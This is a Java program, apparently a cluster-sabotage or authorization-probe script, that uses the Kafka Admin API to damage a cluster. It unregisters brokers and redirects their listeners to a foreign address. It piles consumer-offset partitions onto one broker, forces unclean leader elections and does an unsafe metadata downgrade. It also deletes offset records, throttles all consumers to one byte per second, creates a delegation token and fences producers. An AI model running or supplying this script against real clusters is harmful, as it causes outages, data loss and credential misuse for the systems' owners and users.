import java.util.*;
import java.util.concurrent.TimeUnit;
import org.apache.kafka.clients.admin.*;
import org.apache.kafka.common.*;
import org.apache.kafka.common.config.ConfigResource;

/** What the tools of a cluster's owner can do: brokers out, leaders away, data elsewhere, features down. */
public class Wreck {
    interface Call { KafkaFuture<?> on(Admin admin) throws Exception; }

    static void attempt(Admin admin, String what, Call call) {
        try {
            System.out.println(what + ": " + call.on(admin).get(5, TimeUnit.SECONDS));
        } catch (Exception error) {
            System.out.println(what + ": " + error);
        }
    }

    public static void main(String[] arguments) {
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", "kafka:9092"))) {
            for (int broker = 0; broker < 4; broker++) {
                int id = broker;
                attempt(admin, "unregister " + id, a -> a.unregisterBroker(id).all());
                attempt(admin, "directories " + id, a -> a.describeLogDirs(List.of(id)).allDescriptions());
                attempt(admin, "roles " + id, a -> a.incrementalAlterConfigs(Map.of(new ConfigResource(ConfigResource.Type.BROKER, "" + id), List.of(
                    new AlterConfigOp(new ConfigEntry("advertised.listeners", "CLIENT://192.0.2.1:9092"), AlterConfigOp.OpType.SET)))).all());
            }
            Map<TopicPartition, Optional<NewPartitionReassignment>> moves = new HashMap<>();
            for (int partition = 0; partition < 50; partition++) {
                moves.put(new TopicPartition("__consumer_offsets", partition), Optional.of(new NewPartitionReassignment(List.of(2))));
            }
            attempt(admin, "reassign", a -> a.alterPartitionReassignments(moves).all());
            attempt(admin, "elect", a -> a.electLeaders(ElectionType.UNCLEAN, null).all());
            attempt(admin, "features", a -> a.updateFeatures(Map.of("metadata.version", new FeatureUpdate((short) 1, FeatureUpdate.UpgradeType.UNSAFE_DOWNGRADE)), new UpdateFeaturesOptions()).all());
            attempt(admin, "delete records", a -> a.deleteRecords(Map.of(new TopicPartition("__consumer_offsets", 0), RecordsToDelete.beforeOffset(-1))).all());
            attempt(admin, "quotas", a -> a.alterClientQuotas(List.of(new org.apache.kafka.common.quota.ClientQuotaAlteration(
                new org.apache.kafka.common.quota.ClientQuotaEntity(Collections.singletonMap("user", null)),
                List.of(new org.apache.kafka.common.quota.ClientQuotaAlteration.Op("consumer_byte_rate", 1.0))))).all());
            attempt(admin, "token", a -> a.createDelegationToken().delegationToken());
            attempt(admin, "fence", a -> a.fenceProducers(List.of("connect-cluster", "ksql", "connect-cluster-kafka-connect-group")).all());
        }
    }
}
